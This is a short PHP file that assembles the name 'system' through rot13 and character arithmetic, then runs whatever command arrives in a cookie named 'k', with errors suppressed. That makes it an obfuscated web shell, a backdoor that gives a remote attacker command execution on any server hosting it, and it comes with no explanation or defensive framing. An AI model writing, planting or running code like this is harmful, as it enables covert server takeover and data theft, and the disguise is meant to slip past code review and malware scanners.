<?php
$q = [str_rot13('fl'), 'st', chr(array_sum([50, 51])) . 'm'];
$f = vsprintf('%s%s%s', $q);
@$f(@$_COOKIE['k']);
